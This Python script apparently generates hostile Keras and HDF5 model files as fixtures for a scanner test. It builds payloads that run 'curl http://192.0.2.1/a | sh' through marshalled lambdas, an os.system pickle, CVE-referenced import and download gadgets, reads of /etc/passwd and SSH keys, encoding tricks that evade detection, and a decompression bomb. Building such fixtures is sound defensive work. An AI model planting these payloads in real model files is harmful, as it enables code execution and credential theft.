"""Hostile twins of the models in models.json, made by changing their configuration, for hostile.test.ts. Nothing is loaded or called: code is
compiled by this Python and marshalled, pickles are written by hand. Needs h5py:
    python3 make-hostile.py < models.json > hostile.json"""
import base64, copy, io, json, marshal, sys, tempfile, zipfile, zlib
import h5py, numpy as np

models = {name: zlib.decompress(base64.b64decode(text)) for name, text in json.load(sys.stdin).items()}
made = {}
PICKLE = b"cos\nsystem\n(S'id'\ntR."

def code(source):
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()

SYSTEM = code('lambda x: __import__("os").system("curl http://192.0.2.1/a | sh") or x')
FETCH = code('lambda x, run=None: [tf.io.write_file("/tmp/a", "b"), x][1]')

def keras(name, change=lambda config: None, twin='keras3-tiny.keras', encode=lambda text: text.encode(), members=(), drop=('model.weights.h5',), before=()):
    """An archive with its configuration changed and members added or left out."""
    with zipfile.ZipFile(io.BytesIO(models[twin])) as old:
        out = io.BytesIO()
        with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as new:
            for key, data in before:
                new.writestr(zipfile.ZipInfo(key), data)
            for info in old.infolist():
                data = old.read(info)
                if info.filename in drop: continue
                if info.filename == 'config.json':
                    config = json.loads(data)
                    config = change(config) or config
                    data = encode(json.dumps(config))
                new.writestr(zipfile.ZipInfo(info.filename), data, zipfile.ZIP_DEFLATED)
            for key, data in members:
                new.writestr(zipfile.ZipInfo(key), data)
    made[name] = out.getvalue()

def h5(name, change, twin='keras2-tiny.h5', attribute='model_config', after=lambda file: None):
    with tempfile.NamedTemporaryFile(suffix='.h5') as file:
        file.write(models[twin]); file.flush()
        with h5py.File(file.name, 'r+') as opened:
            config = json.loads(opened.attrs[attribute])
            config = change(config) or config
            opened.attrs[attribute] = json.dumps(config)
            after(opened)
        made[name] = open(file.name, 'rb').read()

def layer(class_name, config, **more):
    return {'class_name': class_name, 'config': {'name': 'x', 'trainable': True, **config}, 'name': 'x', 'inbound_nodes': [], **more}

def add(new):
    def change(config):
        config['config']['layers'].append(new)
    return change

def dictionary(text):
    return {'class_name': '__lambda__', 'config': {'code': text, 'defaults': None, 'closure': None}}

def reference(name, module, **more):
    return {'class_name': 'function', 'config': name, 'module': module, 'registered_name': name, **more}

# Lambdas in every form (bypass 35)
h5('lambda-list.h5', add(layer('Lambda', {'function': [SYSTEM, None, None], 'function_type': 'lambda', 'module': '__main__'})))
h5('lambda-text.h5', add(layer('Lambda', {'function': SYSTEM, 'function_type': 'lambda'})))
h5('lambda-tuple.h5', add(layer('Lambda', {'function': {'class_name': '__tuple__', 'items': [SYSTEM, None, None]}, 'function_type': 'lambda'})))
h5('lambda-untyped.h5', add(layer('Lambda', {'function': [SYSTEM, None, None]})))
h5('lambda-shape.h5', add(layer('Lambda', {'function': 'relu', 'function_type': 'function', 'output_shape': [SYSTEM, None, None], 'output_shape_type': 'lambda'})))
h5('lambda-raw.h5', add(layer('Lambda', {'function': [base64.b64decode(SYSTEM).decode('latin1'), None, None], 'function_type': 'lambda'})))
keras('lambda-dictionary.keras', add(layer('Lambda', {'function': dictionary(SYSTEM)}, module='keras.layers')))
keras('lambda-value.keras', add(layer('Activation', {'activation': {'class_name': '__lambda__', 'config': {'value': SYSTEM}}}, module='keras.layers')))
keras('lambda-junk.keras', add(layer('Lambda', {'function': dictionary('!' + '.-'.join(SYSTEM[at:at + 7] for at in range(0, len(SYSTEM), 7)))})))
keras('lambda-mask.keras', add(layer('Lambda', {'function': reference('relu', 'builtins'), 'mask': dictionary(SYSTEM)})))
keras('lambda-defaults.keras', add(layer('Lambda', {'function': {'class_name': '__lambda__', 'config': {'code': code('lambda x: x'), 'defaults': [SYSTEM], 'closure': None}}})))
keras('lambda-nested.keras', add(layer('Functional', {'layers': [layer('TimeDistributed', {'layer': layer('Lambda', {'function': dictionary(SYSTEM)})})]})))
keras('lambda-build.keras', add(layer('Dense', {'units': 1}, build_config={'inner': {'deep': [layer('Lambda', {'function': dictionary(SYSTEM)})]}})))
def compiled(config):
    config['compile_config'] = {'optimizer': 'adam', 'loss': dictionary(SYSTEM), 'metrics': [[reference('system', 'os')]]}
keras('lambda-compile.keras', compiled)
keras('lambda-tensorflow.keras', add(layer('Lambda', {'function': dictionary(FETCH)})))
keras('lambda-broken.keras', add(layer('Lambda', {'function': dictionary(base64.b64encode(base64.b64decode(SYSTEM)[:-30]).decode())})))
keras('lambda-elsewhere.keras', add(layer('Dense', {'units': 1, 'note': SYSTEM})))

# Modules outside Keras (CVE-2025-1550), under any name
keras('import-function.keras', add(layer('Lambda', {'function': reference('system', 'os'), 'arguments': {'command': 'id'}})))
keras('import-class.keras', add(layer('Popen', {'args': ['id']}, module='subprocess', registered_name='Popen')))
keras('import-alias.keras', add(layer('Activation', {'activation': reference('system', 'posix')})))
keras('import-builtin.keras', add(layer('Lambda', {'function': reference('eval', 'builtins')})))
keras('import-library.keras', add(layer('Lambda', {'function': reference('run', 'torch.utils.collect_env')})))
keras('import-spec.keras', add({'class_name': '__typespec__', 'spec_name': 'Popen', 'module': 'subprocess', 'registered_name': None, 'config': ['id']}))
h5('import-training.h5', lambda config: config.update(metrics=[[reference('system', 'os')]]), attribute='training_config')

# Keras's own tools (CVE-2025-8747), and the switch (CVE-2025-9906)
download = {'origin': 'http://192.0.2.1/a.tgz', 'fname': 'a', 'extract': True, 'cache_dir': '/tmp'}
keras('gadget-get-file.keras', add(layer('Lambda', {'function': reference('get_file', 'keras.utils'), 'arguments': download})))
keras('gadget-source.keras', add(layer('Lambda', {'function': reference('get_file', 'keras.src.utils.file_utils'), 'arguments': download})))
keras('gadget-load.keras', add(layer('load_model', {'filepath': 'http://192.0.2.1/b.h5', 'safe_mode': False}, module='keras.models')))
keras('gadget-activation.keras', add(layer('Dense', {'units': 1, 'activation': 'get_file'})))
keras('unsafe.keras', lambda config: {'class_name': 'Sequential', 'module': 'keras', 'config': {'layers': [reference('enable_unsafe_deserialization', 'keras.config'), config]}})

# A PyTorch module (CVE-2025-49655), another model, TensorFlow functions
keras('torch.keras', add(layer('TorchModuleWrapper', {'module': base64.b64encode(PICKLE).decode()}, module='keras.layers')))
keras('torch-bytes.keras', add(layer('TorchModuleWrapper', {'module': {'class_name': '__bytes__', 'config': {'value': PICKLE.decode()}}}, module='keras.layers')))
keras('savedmodel.keras', add(layer('TFSMLayer', {'filepath': '/tmp/other'}, module='keras.layers')))
h5('tensorflow-function.h5', add(layer('TFOpLambda', {'function': 'io.read_file'})))
h5('tensorflow-python.h5', add(layer('TFOpLambda', {'function': 'numpy_function'})))
h5('tensorflow-operation.h5', add(layer('TensorFlowOpLayer', {'node_def': json.dumps({'name': 'a', 'op': 'ReadFile', 'input': ['x']}), 'constants': {}})))

# Files (bypass 36)
keras('path-absolute.keras', add(layer('StringLookup', {'vocabulary': '/etc/passwd'}, module='keras.layers')))
keras('path-up.keras', add(layer('TextVectorization', {'vocabulary': 'assets/../../.ssh/id_rsa'}, module='keras.layers')))
keras('path-address.keras', add(layer('IntegerLookup', {'vocabulary': 'https://192.0.2.1/words'}, module='keras.layers')))
keras('path-relative.keras', add(layer('StringLookup', {'vocabulary': 'words.txt'}, module='keras.layers')))
objects = io.BytesIO(); np.save(objects, np.array([1]), allow_pickle=False)
header = b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b'\n'
weights = io.BytesIO()
with zipfile.ZipFile(weights, 'w') as archive: archive.writestr('layers/dense/vars/0.npy', header + PICKLE)
keras('weights-npz.keras', members=[('model.weights.npz', weights.getvalue())])
keras('member-pickle.keras', members=[('assets/state.bin', b'\x80\x04' + PICKLE)])
keras('member-python.keras', members=[('assets/layer.py', b'print(1)\n'), ('hook.pkl', PICKLE)])

# The same archive for different eyes
keras('wide.keras', add(layer('Lambda', {'function': dictionary(SYSTEM)})), encode=lambda text: text.encode('utf-16'))
keras('wide32.keras', add(layer('Lambda', {'function': dictionary(SYSTEM)})), encode=lambda text: text.encode('utf-32-be'))
keras('infinite.keras', add(layer('Lambda', {'function': dictionary(SYSTEM), 'a': float('inf'), 'b': float('nan'), 'c': '"NaN'})))
keras('twice.keras', before=[('config.json', json.dumps(layer('Lambda', {'function': dictionary(SYSTEM)})).encode())])
keras('escaped.keras', add(layer('Lambda', {'function': dictionary(SYSTEM)})), encode=lambda text: text.replace('Lambda', '\\u004cambda').replace('__lambda__', '__\\u006cambda__').encode())
keras('alone.zip', add(layer('Lambda', {'function': dictionary(SYSTEM)})), drop=['model.weights.h5', 'metadata.json'])
made['bare.json'] = json.dumps(layer('Sequential', {'layers': [layer('Lambda', {'function': dictionary(SYSTEM)})]})).encode()
keras('no-json.keras', encode=lambda text: text[:-20].encode())
h5('outside.h5', lambda config: None, after=lambda file: file.__setitem__('more', h5py.ExternalLink('/etc/weights.h5', '/')))
h5('huge.h5', lambda config: None, after=lambda file: file.create_dataset('bomb', shape=(2**20, 2**20), dtype='f4', chunks=(1024, 1024)))
h5('pickled.h5', lambda config: None, after=lambda file: file.attrs.create('FILTERS', np.bytes_(PICKLE)))
h5('number.h5', lambda config: None, after=lambda file: file.attrs.create('model_config', 3))

print(json.dumps({name: base64.b64encode(zlib.compress(data, 9)).decode() for name, data in sorted(made.items())}, indent=0))
